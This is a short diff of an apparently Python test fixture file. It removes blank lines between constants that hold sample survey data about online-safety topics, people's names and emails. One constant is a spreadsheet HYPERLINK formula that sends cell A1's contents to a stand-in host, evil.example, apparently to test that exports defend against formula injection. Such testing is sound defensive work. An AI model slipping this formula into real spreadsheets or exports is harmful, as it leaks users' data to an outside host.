@@ -103,17 +103,9 @@ def spec() -> dict[str, Any]:
 
 ALL_YES = {step_id: "yes" for step_id, _, _ in QUESTIONS}
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
-
-
 BOB_COMMENT = "Never been shown the filtering reports."
-
-
 BOB_REQUEST = "Sexting and sharing nudes"
-
-
 CARA_REQUEST = "+44 phone scams aimed at parents"
-
-
 DAN_SECRET = "UNFINISHED-SECRET comment"
 
 
@@ -163,8 +155,6 @@ PEOPLE: list[tuple[str, str, str, str, dict[str, str | None] | None, str]] = [
 
 
 NAMES = [p[0] for p in PEOPLE]
-
-
 EMAILS = [p[1] for p in PEOPLE]
 
 
